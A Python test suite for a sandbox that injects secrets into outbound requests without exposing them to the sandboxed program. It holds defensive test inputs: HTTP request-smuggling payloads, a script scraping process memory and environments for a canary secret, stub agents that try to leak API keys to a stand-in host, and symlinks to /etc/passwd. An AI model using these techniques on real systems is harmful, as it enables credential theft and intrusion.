#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Secrets that are used and never held: put into requests outside, over HTTP and HTTPS, and out of reach inside.

Takes the program from AISBX. Speaks TAP. Runs as whoever starts it, in a network namespace of its own (tests/lib/internet.py).
"""
import base64
import gzip
import json
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

import internet
from authority import behind_tls, certificates
from clitest import AISBX, Home, Tap
from mcpclient import Server
from internet import EVIL, build_internet, enter, lines, listen, run

tap = Tap()
API, BAD = "198.51.100.30", "198.51.100.31"
internet.NAMES.update({"api.test": API, "twin.test": API, "other.test": API, "bad.test": BAD, "foo.test": API,
                       "api.anthropic.com": API})
VALUE = "CANARY-s3cr3t_Value.42+x"
HIDDEN = "*" * len(VALUE)
seen = []


def head_of(peer, have):
    while b"\r\n\r\n" not in have:
        part = peer.recv(65536)
        if not part:
            return None, b""
        have += part
    head, _, have = have.partition(b"\r\n\r\n")
    return head, have


def body_of(peer, fields, have):
    if "content-length" in fields:
        size = int(fields["content-length"])
        while len(have) < size:
            have += peer.recv(65536)
        return have[:size], have[size:]
    if fields.get("transfer-encoding") != "chunked":
        return b"", have
    out = b""
    while True:
        while b"\r\n" not in have:
            have += peer.recv(65536)
        line, _, have = have.partition(b"\r\n")
        size = int(line, 16)
        while len(have) < size + 2:
            have += peer.recv(65536)
        out, have = out + have[:size], have[size + 2:]
        if size == 0:
            return out, have


def answer(peer, path, text):
    """What the server was sent, in the way that the path asks for."""
    if path == "/gzip":
        text = gzip.compress(text)
        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
    elif path in ("/twice", "/feed"):
        line = b"Content-Encoding: gzip\r\nContent-Encoding:" if path == "/twice" else b"X: a\nContent-Encoding: gzip"
        peer.sendall(b"HTTP/1.1 200 OK\r\n" + line + b"\r\nContent-Length: 2\r\n\r\nok")
    elif path == "/behind":
        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\n\r\n")
    elif path == "/chunks":
        peer.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(len(text)):
            peer.sendall(b"1;x=y\r\n" + text[i:i + 1] + b"\r\n")
        peer.sendall(b"0\r\nX-Trailer: " + VALUE.encode() + b"\r\n\r\n")
    elif path == "/coded":
        text = base64.b64encode(text) + b" " + text.hex().encode()
        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
    elif path == "/redirect":
        peer.sendall(b"HTTP/1.1 302 Found\r\nLocation: https://other.test/echo\r\nX-Echo: " + VALUE.encode() +
                     b"\r\nContent-Length: 0\r\n\r\n")
    elif path == "/end":
        peer.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + text)
        return False
    elif path == "/big":
        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8000000\r\n\r\n" + b"0123456789abcdef" * 500000)
    else:
        peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
    return True


def server(peer, _):
    peer.settimeout(120)
    have = b""
    while True:
        head, have = head_of(peer, have)
        if head is None:
            return
        rows = head.decode().split("\r\n")
        fields = {k.lower(): v.strip() for k, _, v in (row.partition(":") for row in rows[1:])}
        body, have = body_of(peer, fields, have)
        seen.append((rows[0], fields, body))
        path = rows[0].split()[1].partition("?")[0]
        if fields.get("upgrade", "").lower() == "websocket":
            peer.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            peer.sendall(b"frame:" + peer.recv(100) + fields.get("authorization", "").encode())
            return
        if not answer(peer, path, head + b"\r\n" + body) or fields.get("connection") == "close":
            return


TALK = """
import os, subprocess
def talk(text, host='api.test', port=443, name=None, tls=True, end=False):
    '''Sends bytes, reads to the end or the first pause of the server; what came.'''
    try:
        with socket.create_connection((host, port), 60) as s:
            s.settimeout(60)
            if tls: s = ssl.create_default_context().wrap_socket(s, server_hostname=name or host)
            s.sendall(text if isinstance(text, bytes) else text.encode())
            data = b''
            while True:
                part = s.recv(65536)
                if not part: break
                data += part
    except (OSError, ssl.SSLError) as e:
        return 'error:' + type(e).__name__
    return data.decode('latin1')
def req(line, *fields, host='api.test', body=''):
    return '\\r\\n'.join([line + ' HTTP/1.1', 'Host: ' + host, 'Connection: close', *fields, '', body])
def status(text): return text[9:12] if text.startswith('HTTP/1') else text or 'nothing'
"""
FLAGS = ["--allow", "api.test", "--inject", "api.test:Authorization=tok"]


def talk(home, script, *flags, **how):
    return run(home, TALK + script, *(flags or FLAGS), **how)


def given(field="authorization"):
    return [row[1].get(field) for row in seen]


def test_programs(home):
    """Real clients, over HTTPS, without a word about the secret."""
    seen.clear()
    commands = {
        "curl": "curl -sS https://api.test/curl -H 'authorization: mine'",
        "wget": "wget -q -t 1 -O - https://api.test/wget",
        "python urllib": "python3 -c \"import urllib.request as u; print(u.urlopen('https://api.test/urllib').status)\"",
        "node": "node -e \"fetch('https://api.test/node').then(r => console.log(r.status))\"",
    }
    if subprocess.run(["/usr/bin/python3", "-c", "import requests"], capture_output=True, check=False).returncode == 0:
        commands["requests"] = "/usr/bin/python3 -c \"import requests; print(requests.get('https://api.test/requests').status_code)\""
    for name, command in commands.items():
        if not shutil.which(name.split()[0]) and name != "requests" and "python" not in name:
            tap.skip(name, "not installed")
            continue
        before = len(seen)
        done = home.call("run", *FLAGS, "--", "sh", "-c", command)
        tap.ok(done.returncode == 0 and given()[before:] == [VALUE] and VALUE not in done.stdout + done.stderr,
               f"{name} uses the secret and never has it", (done, seen[before:]))
    tap.ok(all(row[1].get("accept-encoding") == "identity" for row in seen), "answers are asked for uncompressed", seen)


def test_ways(home):
    home.call("secret", "set", "pair", stdin="robot:" + VALUE)
    home.call("secret", "set", "query", stdin="a b&c=d/" + VALUE)
    for how, name, field, want in (("bearer", "tok", "authorization", "Bearer " + VALUE),
                                   ("basic", "pair", "authorization", "Basic " + base64.b64encode(b"robot:" + VALUE.encode()).decode()),
                                   ("basic/git", "tok", "authorization", "Basic " + base64.b64encode(b"git:" + VALUE.encode()).decode()),
                                   ("X-Key", "tok", "x-key", VALUE)):
        seen.clear()
        done = home.call("run", "--allow", "api.test", "--inject", f"api.test:{how}={name}", "--", "curl", "-sS",
                         "https://api.test/x", "-H", "Authorization: mine", "-H", "x-KEY: mine")
        tap.ok(given(field) == [want] and VALUE not in done.stdout, f"as {how}", (done, seen))
    seen.clear()
    done = home.call("run", "--allow", "api.test", "--inject", "api.test:query/key=query", "--", "curl", "-sS",
                     "https://api.test/x?key=mine&a=b")
    tap.ok(bool(seen) and seen[0][0] == "GET /x?a=b&key=a%20b%26c%3Dd%2FCANARY-s3cr3t_Value.42%2Bx HTTP/1.1" and VALUE not in done.stdout,
           "as a parameter, escaped", (done, seen))
    seen.clear()
    script = """printf %s "$KEY" | wc -c; curl -sS "https://api.test/p?k=$KEY" -H "X-Token: t $KEY" -u "me:$KEY" -d "$KEY" >/dev/null
curl -sS "https://other.test/p" -H "X-Token: $KEY" >/dev/null"""
    done = home.call("run", "--allow", "api.test,other.test", "--inject-env", "KEY=tok@api.test", "--", "sh", "-c", script)
    first, second = (seen + [("", {}, b"")] * 2)[:2]
    tap.ok(done.stdout.strip() == str(len(VALUE)) and first[1].get("x-token") == "t " + VALUE and
           first[1].get("authorization") == "Basic " + base64.b64encode(b"me:" + VALUE.encode()).decode() and
           "CANARY-s3cr3t_Value.42%2Bx" in first[0], "a placeholder is exchanged in headers, basic and query", (done, seen))
    tap.ok(VALUE.encode() not in first[2] and VALUE not in str(second), "never in bodies, and for no other host", seen)
    seen.clear()
    r = talk(home, "print(status(talk(req('GET /plain'), port=8000, tls=False)), status(talk(req('GET /tls'), port=443)))",
             "--allow", "api.test:8000", "--allow", "api.test:443", "--inject", "http:api.test:8000:Authorization=tok")
    tap.ok(lines(r) == ["200", "200"] and given() == [VALUE, None], "plain HTTP where that is asked for", (r, seen))


def test_echo(home):
    """Answers that hold the secret."""
    script = "\n".join(f"print('{path}', talk(req('GET {path}')).replace('\\r\\n', '|'))"
                       for path in ("/echo", "/chunks", "/coded", "/redirect", "/end", "/gzip"))
    r = talk(home, script + "\nprint(status(talk(req('TRACE /echo'))), os.environ['SSL_CERT_FILE'])")
    out = r.get("stdout", "")
    rows = {row.split(" ", 1)[0]: row for row in out.splitlines()}
    coded = base64.b64encode(VALUE.encode()).decode()[4:-4]
    tap.ok(VALUE not in out and coded not in out and VALUE.encode().hex() not in out, "no answer shows it, in whatever coding", out)
    tap.ok(HIDDEN in rows.get("/echo", "") and HIDDEN in rows.get("/redirect", "") and HIDDEN in rows.get("/end", ""),
           "asterisks stand for it, of the same length", rows)
    chunks = out.partition("/chunks ")[2].partition("/coded ")[0]
    tap.ok(chunks.count("*") >= len(VALUE), "through chunks of one byte", chunks)
    tap.ok(rows.get("/gzip", "").startswith("/gzip HTTP/1.1 502"), "a compressed answer is refused", rows.get("/gzip"))
    r = talk(home, "print(status(talk(req('GET /twice'))), status(talk(req('GET /feed'))), talk(req('GET /behind')).count('HTTP/1'))")
    tap.ok(lines(r) == ["502", "502", "1"], "no coding is hidden by another header, and nothing stands behind an answer", r)
    tap.ok("403 /run/aisbx/ca.pem" in out, "TRACE is refused, and the variables name the bundle", out)


SMUGGLED = {
    "both lengths": "req('POST /in', 'Content-Length: 4', 'Transfer-Encoding: chunked', body='0\\r\\n\\r\\n')",
    "two lengths": "req('POST /in', 'Content-Length: 4', 'Content-Length: 5', body='abcde')",
    "another coding": "req('POST /in', 'Transfer-Encoding: xchunked', body='0\\r\\n\\r\\n')",
    "folded lines": "req('GET /x', 'X: a', '  b')",
    "bare line feeds": "req('GET /x').replace('\\r\\n', '\\n')",
    "a bare carriage return": "req('GET /x', 'X: a\\rHost: other.test')",
    "two Hosts": "req('GET /x', 'Host: api.test')",
    "no Host": "'GET /x HTTP/1.1\\r\\n\\r\\n'",
    "another Host": "req('GET /x', host='other.test')",
    "another port": "req('GET /x', host='api.test:81')",
    "an absolute host": "req('GET https://other.test/x')",
    "another absolute host": "req('GET http://other.test/x')",
    "a chunk with an extension": "req('POST /in', 'Transfer-Encoding: chunked', body='5;a=b\\r\\nhello\\r\\n0\\r\\n\\r\\n')",
    "HTTP/2": "'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'",
}


def test_smuggled(home):
    seen.clear()
    script = "".join(f"print(status(talk(({text}) + req('GET /hidden'))))\n" for text in SMUGGLED.values())
    r = talk(home, script, "--allow", "api.test,other.test", *FLAGS[2:])
    for name, got in zip(SMUGGLED, lines(r) + [""] * len(SMUGGLED)):
        tap.ok(got == "400", f"refused: {name}", got)
    tap.ok(not any("hidden" in str(row) for row in seen), "nothing of what was hidden has reached the server", seen)
    seen.clear()
    r = talk(home, "print(status(talk(req('GET /x', host='API.test.:443'))), status(talk(req('GET /x', host='api.test:443'))), "
             "status(talk(req('GET /y', host='other.test'), host='other.test')), "
             "status(talk(req('GET /z', host='api.test'), host='other.test')),"
             "status(talk(req('GET /w'), host='api.test', name='twin.test')))",
             "--allow", "api.test,other.test", *FLAGS[2:])
    tap.ok([row[1]["host"] for row in seen if VALUE in str(row)] == ["api.test:443", "api.test:443"] and lines(r)[:3] == ["200"] * 3,
           "case, a dot at the end and the port do not matter; another name gets nothing", (r.get("stdout"), seen))
    tap.ok(lines(r)[4:] == ["error:ConnectionResetError"] or "error" in lines(r)[-1], "a name that no rule has is refused", lines(r))


def test_reading(home):
    """Every place inside where it might be."""
    script = """
import glob
found = []
def look(path):
    try:
        with open(path, 'rb') as f:
            if ''.join(['CANARY', '-s3cr3t']).encode() in f.read(1 << 20): found.append(path)
    except OSError: pass
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'maps', 'status'): look(f'/proc/{pid}/{name}')
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            if int(pid) == os.getpid(): continue
            for row in maps:
                a, b = (int(x, 16) for x in row.split()[0].split('-'))
                try: mem.seek(a); data = mem.read(min(b - a, 1 << 22))
                except (OSError, ValueError, OverflowError): continue
                if ''.join(['CANARY', '-s3cr3t']).encode() in data: found.append(f'mem {pid}')
    except (OSError, ValueError): pass
for root, _, files in os.walk('/run'):
    for name in files: look(os.path.join(root, name))
print('found', found, os.listdir('/run/secrets'), 'PRIVATE' in open('/run/aisbx/ca.pem').read(), len([p for p in os.listdir('/proc') if p.isdigit()]))
"""
    r = talk(home, script)
    tap.ok("found [] [] False" in r.get("stdout", ""), "neither in memory, environment or files, nor is the authority's key", r)
    tap.ok(VALUE not in json.dumps(r), "nor in the result")
    records = subprocess.run(["grep", "-rlasF", "-e", VALUE, home.path], capture_output=True, text=True, check=False).stdout
    tap.equal(records, "", "nor in any record")


def test_certificate(home):
    r = talk(home, "print(talk(req('GET /x', host='bad.test'), host='bad.test'))", "--allow", "bad.test", "--inject",
             "bad.test:Authorization=tok")
    denied = [d for d in r.get("denials", []) if "mismatch" in d.get("rule", "")]
    tap.ok(lines(r) == ["error:SSLError"] and denied, "a wrong certificate is an error inside, and says why", r)
    tap.ok(not any("bad.test" in str(row) for row in seen), "and nothing is sent")


def test_kept(home):
    seen.clear()
    script = """
import http.client
c = http.client.HTTPSConnection('api.test', timeout=60, context=ssl.create_default_context())
out = []
for path in ('/a', '/b'):
    c.request('GET', path); out.append(str(c.getresponse().status)); 
    c.sock and None
c = http.client.HTTPSConnection('api.test', timeout=60, context=ssl.create_default_context())
c.request('GET', '/big'); out.append(str(len(c.getresponse().read())))
c.request('POST', '/in', body=iter([b'x' * 100000] * 5), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
out.append(str(c.getresponse().status))
s = ssl.create_default_context().wrap_socket(socket.create_connection(('api.test', 443), 60), server_hostname='api.test')
s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n')
data = b''
while b'\\r\\n\\r\\n' not in data: data += s.recv(1000)
s.sendall(b'ping!')
while True:
    part = s.recv(1000)
    if not part: break
    data += part
out.append(data.partition(b'frame:')[2].decode())
print(*out)
""".replace("out.append(str(c.getresponse().status)); \n    c.sock and None", "a = c.getresponse(); a.read(); out.append(str(a.status))")
    r = talk(home, script)
    tap.ok(lines(r) == ["200", "200", "8000000", "200", "ping!" + HIDDEN], "kept alive, large, chunked, a websocket", r)
    tap.ok(len(seen) == 5 and given() == [VALUE] * 5 and len(seen[3][2]) == 500000, "each with the secret, bodies whole", [s[0] for s in seen])
    tap.ok(r.get("network", {}).get("received_bytes", 0) >= 8000000, "bytes are counted", r.get("network"))


def test_named(home):
    seen.clear()
    made = home.call("create", "box", *FLAGS, "--inject-env", "KEY=tok@api.test")
    r = [home.call("exec", "box", "--", "sh", "-c", 'curl -sS https://api.test/n -H "X-Key: $KEY"') for _ in range(2)]
    tap.ok(made.returncode == 0 and given() == [VALUE] * 2 and given("x-key") == [VALUE] * 2 and VALUE not in str(r),
           "a named sandbox, each command of it", (made, r, seen))
    uses = home.rows("secret", "show-use", "tok")
    tap.ok(any("api.test" in json.dumps(row) and "injected" in json.dumps(row) for row in uses), "show-use says for which host", uses[:2])
    home.call("rm", "box")


def test_refused(home):
    home.call("secret", "set", "scoped", "--host", "other.test", stdin=VALUE)
    home.call("secret", "set", "two", stdin=VALUE + "\nline")
    for flags, why in ((["--allow", "api.test", "--inject", "api.test:X=scoped"], "only for the host other.test"),
                       (["--inject", "api.test:X=tok"], "add --allow api.test:443"),
                       (["--allow", "api.test", "--inject", "api.test:Host=tok"], "no header"),
                       (["--allow", "api.test", "--inject", "api.test:X=none"], "no secret is called"),
                       (["--allow", "api.test", "--inject", "api.test=tok"], "not a secret for a host"),
                       (["--allow", "api.test", "--inject", "api.test:0:X=tok"], "PORT"),
                       (["--allow", "api.test", "--inject", "10.0.0.1:X=tok"], "HOST is the name"),
                       (["--allow", "api.test", "--inject", "api.test:X=two"], "one line"),
                       (["--allow", "api.test", "--inject-env", "K=tok"], "a variable, a secret and a host"),
                       (["--allow", "api.test", "--secret", "scoped"], "--inject HOST:HEADER=NAME")):
        done = home.call("run", *flags, "--", "true")
        tap.ok(done.returncode == 125 and why in done.stderr, "refused: " + " ".join(flags[-1:]), done)
    done = home.call("run", "--allow", "other.test", "--inject", "other.test:X=scoped", "--", "curl", "-sS", "https://other.test/")
    tap.ok(done.returncode == 0 and VALUE not in done.stdout, "a scoped secret, where it is for", done)
    seen.clear()
    r = talk(home, "print(*[status(talk(req(*words), port=8443)) for words in (['GET /ok/1'], ['GET /no'], ['POST /ok/2', 'Content-Length: 0'])])",
             "--allow", "http:GET:api.test:8443/ok", "--inject", "api.test:8443:Authorization=tok")
    tap.ok(lines(r) == ["200", "403", "403"] and len(seen) == 1, "rules about methods and paths hold inside TLS", (r, seen))


def test_elsewhere(home):
    """Secrets stay with the addresses of their host, whatever else the rules let the command dial."""
    lie = f"print(status(talk(req('GET /x', host='api.test:8000'), host='{EVIL}', port=8000, tls=False)))"
    for word in ("http:api.test:8000:bearer=tok", "api.test:8000:bearer=tok"):
        for rules in (["--net", "all"], ["--allow", f"api.test:8000,{EVIL}:8000"]):
            seen.clear()
            r = talk(home, "socket.getaddrinfo('api.test', 8000)\n" + lie, *rules, "--inject", word)
            tap.ok(lines(r) == ["400"] and not seen, f"an address of another host gets no {word} with {rules[-1]}", (r, seen))
    for rules in (["--net", "all"], ["--allow", "api.test:8000"]):
        seen.clear()
        r = talk(home, "print(status(talk(req('GET /x'), port=8000, tls=False)))", *rules, "--inject", "http:api.test:8000:bearer=tok")
        tap.ok(lines(r) == ["200"] and given() == ["Bearer " + VALUE], f"the host itself gets it with {rules[-1]}", (r, seen))
    seen.clear()
    for port, rules in ((443, ["--allow", "api.test"]), (443, ["--net", "all"]), (8000, ["--allow", "api.test:8000"])):
        r = talk(home, f"print(status(talk(req('GET /x'), port={port}, tls=False)))", *rules, "--inject", f"api.test:{port}:bearer=tok")
        tap.ok(lines(r) == ["403"] and not seen, f"port {port}: no plain request where it was not asked for, with {rules[-1]}", (r, seen))
    rules = ["--allow", f"http:GET:api.test:8000/ok,{API}:8000"]
    script = "socket.getaddrinfo('api.test', 8000)\nprint(status(talk(req('GET /no', host='foo.test:8000'), port=8000, tls=False)))"
    for more in ([], ["--inject", "api.test:8000:bearer=tok"], ["--inject", "http:api.test:8000:bearer=tok"]):
        r = talk(home, script, *rules, *more)
        tap.ok(lines(r) == ["400"], f"rules about requests hold beside {more[1:] or 'none'}", r)


def test_pipelined(home):
    seen.clear()
    script = "a = req('GET /a').replace('Connection: close\\r\\n', '')\n"
    script += "print(talk(a + a.replace('/a', '/b') + req('GET /c')).count('HTTP/1.1 200'))\n"
    r = talk(home, script)
    tap.ok(lines(r) == ["3"] and given() == [VALUE] * 3, "requests behind each other on one connection are all answered", (r, seen))


OTHER = "ANOTHER-s3cr3t_Value.43+y"


def test_narrowed(home):
    """A profile with secrets to inject, and a request that opens less than it."""
    home.put(home.path + "/.config/aisbx/profiles/web.yaml", "name: web\nextends: default\nnet: allow\nallow: [api.test, other.test]\n"
             "inject: ['api.test:bearer=tok']\ninject_env: ['KEY=tok@other.test']\n")
    for flags, left in ((["--net", "none"], 2), (["--deny", "api.test"], 1), (["--deny", "other.test"], 1)):
        r = json.loads(home.call("run", "--json", "--profile", "web", *flags, "--", "sh", "-c", "echo ${KEY:+key}").stdout)
        notes = [note for note in r.get("notes", []) if "left out" in note]
        tap.ok(r.get("exit_code") == 0 and len(notes) == left and len(r.get("injected", [])) == 2 - left, f"{flags} leaves secrets out", r)
        tap.equal(r.get("stdout"), "\n" if "api.test" not in flags else "key\n", f"{flags}: and their placeholders")
    r = json.loads(home.call("run", "--json", "--profile", "web", "--", "true").stdout)
    tap.ok(r.get("injected") == ["api.test:443:bearer=tok", "other.test:443:$KEY=tok"], "the result names what is injected", r)
    tap.ok(VALUE not in json.dumps(r), "and no value")


def test_twice(home):
    home.call("secret", "set", "tok2", stdin=OTHER)
    for words in (["api.test:Authorization=tok", "api.test:bearer=tok2"], ["api.test:X-Key=tok", "api.test:443:x-kEY=tok2"],
                  ["api.test:basic/me=tok", "api.test:bearer=tok"], ["api.test:query/k=tok", "api.test:query/k=tok2"]):
        done = home.call("run", "--allow", "api.test", *(w for word in words for w in ("--inject", word)), "--", "true")
        tap.ok(done.returncode == 125 and "same place" in done.stderr, "two secrets in one place: " + " ".join(words), done)
    done = home.call("run", "--allow", "api.test,other.test", "--inject-env", "K=tok@api.test", "--inject-env", "K=tok2@other.test", "--", "true")
    tap.ok(done.returncode == 125 and "same place" in done.stderr, "two secrets in one variable", done)
    seen.clear()
    done = home.call("run", "--allow", "api.test,other.test", "--inject-env", "K=tok@api.test", "--inject-env", "K=tok@other.test",
                     "--", "sh", "-c", 'for h in api other; do curl -sS https://$h.test/ -H "X-Key: $K" >/dev/null; done')
    tap.ok(done.returncode == 0 and given("x-key") == [VALUE] * 2, "one variable for two hosts", (done, seen))


def test_upgrade(home):
    """A second Upgrade, which a server may take for the first."""
    seen.clear()
    r = talk(home, """
for more in ('Upgrade: h2c', 'upgrade: tcp', 'Upgrade: websocket, h2c'):
    print(status(talk(req('GET /u', 'Upgrade: websocket', more))))
print(status(talk(req('GET /u', 'Upgrade: h2c'))))
""")
    tap.ok(lines(r) == ["200"] * 4 and given("upgrade") == [None] * 4, "none of several upgrades passes", (r, seen))


def test_renewed(home):
    """Values that are set anew, and removed, while a sandbox runs."""
    home.call("secret", "set", "turn", stdin=VALUE)
    home.call("create", "turn", "--allow", "api.test", "--inject", "api.test:X-Key=turn")
    use = ["exec", "turn", "--", "curl", "-sS", "https://api.test/t"]
    seen.clear()
    home.call(*use)
    home.call("secret", "set", "turn", stdin=OTHER)
    done = home.call(*use)
    tap.ok(given("x-key") == [VALUE, OTHER] and OTHER not in done.stdout, "the next command uses the new value", (done, seen))
    started = home.call("exec", "-d", "turn", "--", "sleep", "1000")
    home.call("secret", "set", "turn", stdin=VALUE)
    done = home.call(*use)
    tap.ok(started.returncode == 0 and done.returncode == 125 and "aisbx stop" in done.stderr and len(seen) == 2,
           "a sandbox with processes takes no command until it is stopped", (done, seen))
    home.call("stop", "turn")
    home.call(*use)
    tap.equal(given("x-key"), [VALUE, OTHER, VALUE], "and then it uses the new value")
    home.call("secret", "rm", "turn")
    done = home.call(*use)
    tap.ok(done.returncode == 125 and "no secret is called" in done.stderr and len(seen) == 3, "a removed one is used by no new command", done)
    home.call("rm", "turn")


def test_random(home):
    """Placeholders cannot be foretold, and stay the same for a sandbox."""
    ask = ["sh", "-c", "echo $KEY"]
    flags = ["--allow", "api.test", "--inject-env", "KEY=tok@api.test"]
    runs = [home.call("run", *flags, "--", *ask).stdout.strip() for _ in range(2)]
    tap.ok(len(set(runs)) == 2 and all(len(text) == len(VALUE) for text in runs), "another one in each run", runs)
    home.call("create", "dice", *flags)
    texts = [home.call("exec", "dice", "--", *ask).stdout for _ in range(2)]
    home.call("stop", "dice")
    texts.append(home.call("exec", "dice", "--", *ask).stdout)
    tap.ok(len(set(texts)) == 1 and texts[0].strip() not in runs, "the same for each command of a sandbox, also after a stop", texts)
    seen.clear()
    home.call("exec", "dice", "--", "sh", "-c", 'curl -sS https://api.test/d -H "X-Key: $KEY"')
    tap.equal(given("x-key"), [VALUE], "which its gateway knows")
    home.call("rm", "dice")


def test_mcp(home):
    """What the server's profile injects is used by its clients; no client names a secret of its own."""
    home.put(home.path + "/.config/aisbx/profiles/agent.yaml", "name: agent\nextends: default\nnet: allow\nallow: [api.test]\n"
             "inject: ['api.test:bearer=tok']\n")
    seen.clear()
    with Server(home, "--profile", "agent") as server:
        used = server.call("sandbox_run", command=["curl", "-sS", "https://api.test/m"])
        tap.ok(given() == ["Bearer " + VALUE] and VALUE not in json.dumps(used), "a call uses the profile's", (used, seen))
        tap.equal(used.get("structuredContent", {}).get("injected"), ["api.test:443:bearer=tok"], "and its result names it")
        seen.clear()
        for more in ({"inject": ["api.test:X-Key=tok"]}, {"inject_env": ["K=tok@api.test"]}, {"inject-env": ["K=tok@api.test"]},
                     {"secret": ["tok"]}, {"secret_env": ["K=tok"]}, {"profile": "web"}):
            for tool in ("sandbox_run", "sandbox_create"):
                command = {"command": ["curl", "-sS", "https://api.test/m"]} if tool == "sandbox_run" else {}
                done = server.ask("tools/call", name=tool, arguments={**command, **more})
                tap.ok(("error" in done or done.get("result", {}).get("isError")) and VALUE not in json.dumps(done) and not seen,
                       f"refused over MCP: {list(more)[0]} of {tool}", done)


AGENT = """#!/bin/sh
echo "$ANTHROPIC_API_KEY" > key.txt
curl -sS https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' > answer.txt
curl -sS https://other.test/ > /dev/null 2>&1 && echo reached > reached.txt
exit 7
"""
TOKENS = {"tokens": {"access": VALUE, "refresh": VALUE[::-1]}, "expires": 1, "at": "2026-01-02T03:04:05Z",
          "trusted": False, "mcpServers": {"x": {"command": "known-command-0123456"}}}


def test_agent(home):
    """A stand-in for a coding agent, and for its model."""
    home.put("claude", AGENT, 0o755)
    done = home.call("agent", "--", "./claude")
    tap.ok(done.returncode == 125 and "no secret is called 'anthropic_api_key'" in done.stderr and "--login-file" in done.stderr and
           home.rows("ls") == [], "no login: refused with the ways to give one, and nothing is made", done)
    done = home.call("agent", "--", "./unknown")
    tap.ok(done.returncode == 125 and "agents.tsv" in done.stderr, "a program without a row", done)
    home.call("secret", "set", "anthropic_api_key", stdin=VALUE)
    seen.clear()
    done = home.call("agent", "--", "./claude")
    wishes = [row for row in home.rows("promotions") if row.get("state") == "pending"]
    tap.ok(done.returncode == 7 and given("x-api-key") == [VALUE] and VALUE not in done.stdout + done.stderr,
           "an agent uses its login and ends with its own status", (done, seen))
    tap.ok(len(wishes) == 1 and wishes[0]["request_id"] in done.stderr and not os.path.exists(os.path.join(home.work, "key.txt")),
           "what it changed waits", (done, wishes))
    done = home.call("promotions", "approve", "--yes", wishes[0]["request_id"] if wishes else "none")
    tap.ok(done.returncode == 0 and home.read("key.txt") == "sk-ant-api03-used-outside\n" and HIDDEN in home.read("answer.txt") and
           not os.path.exists(os.path.join(home.work, "reached.txt")), "it has no key, sees none, and reaches its model alone", done)
    home.put(home.path + "/.config/aisbx/agents.tsv", "# mine\nrobot\tother.test\tbearer\tROBOT_KEY\tnone\tapi.test\n")
    home.put("robot", "#!/bin/sh\ncurl -sS https://other.test/$ROBOT_KEY >/dev/null && curl -sS https://api.test/plain > /dev/null\n", 0o755)
    seen.clear()
    done = home.call("agent", "--login", "tok", "--", "./robot")
    tap.ok(done.returncode == 0 and given() == ["Bearer " + VALUE, None] and seen[0][0].startswith("GET /none "), "a row of the user's own",
           (done, seen))
    tap.ok("nothing to promote" in done.stderr and len(home.rows("ls")) == 1, "one that changed nothing leaves nothing", (done, home.rows("ls")))
    home.put(home.path + "/.config/aisbx/agents.tsv", "robot\tother.test\n")
    tap.ok("agents.tsv:1" in home.call("agent", "--", "./robot").stderr, "a row that is none is named by its line")
    home.put(home.path + "/.config/aisbx/agents.tsv", "robot\tother.test\tbearer\tROBOT_KEY\tnone\t-\n")


RENEWS = """#!/usr/bin/env python3
import json, os, sys
path = os.path.expanduser("~/.robot/auth.json")
have = json.load(open(path))
print(len(have["tokens"]["access"]), have["tokens"]["access"])
"""


def test_agent_file(home):
    path = home.put(home.path + "/.robot/auth.json", json.dumps(TOKENS), 0o600)
    for name, change, written in (
            ("nothing", "", TOKENS),
            ("a renewed token", "have['tokens']['access'] = 'NEW-Token-0123456789xyz'; have['expires'] = 2.5; have['at'] = '2026-02-03T04:05:06Z'",
             {**TOKENS, "tokens": {"access": "NEW-Token-0123456789xyz", "refresh": VALUE[::-1]}, "expires": 2.5, "at": "2026-02-03T04:05:06Z"}),
            ("another key", "have['evil'] = 'x'", None), ("a missing key", "del have['expires']", None),
            ("another kind", "have['tokens'] = []", None), ("another word", "have['mcpServers']['x']['command'] = 'evil-command-0123456'", None),
            ("another path for a token", "have['tokens']['access'] = '/tmp/evil-command-0123456'", None),
            ("another switch", "have['trusted'] = True", None), ("a short token", "have['tokens']['access'] = 'sh0'", None),
            ("a fifo", "os.unlink(path); os.mkfifo(path); sys.exit(3)", None),
            ("endless", "os.unlink(path); os.symlink('/dev/zero', path); sys.exit(3)", None),
            ("a directory", "os.unlink(path); os.makedirs(path + '/x'); sys.exit(3)", None), ("control characters", "have['tokens']['access'] = 'a' + chr(10)", None),
            ("no file", "os.unlink(path); sys.exit(3)", None),
            ("a link", "os.unlink(path); os.symlink('/etc/passwd', path); sys.exit(3)", None),
            ("no JSON", "open(path, 'w').write('x' * 200000); sys.exit(3)", None)):
        with open(path) as old:
            before = json.load(old)
        home.put("robot", RENEWS + change + "\njson.dump(have, open(path, 'w'))\n", 0o755)
        done = home.call("agent", "--login-file", path, "--", "./robot")
        with open(path) as new:
            after = json.load(new)
        tap.equal(after, written or before, f"{name}: the host's file")
        tap.ok(done.returncode == (3 if "exit" in change else 0) and before["tokens"]["access"] not in done.stdout + done.stderr and
               ("not written back" in done.stderr) == (written is None), f"{name}: the token is read inside, and not shown", done)
    tap.equal(os.stat(path).st_mode & 0o777, 0o600, "its mode is kept")
    tap.ok(all(row["changes"] == {"added": 0, "modified": 0, "deleted": 0} for row in home.rows("ls") if row["name"].startswith("agent-")) or
           len(home.rows("ls")) == 1, "no copy stays", home.rows("ls"))
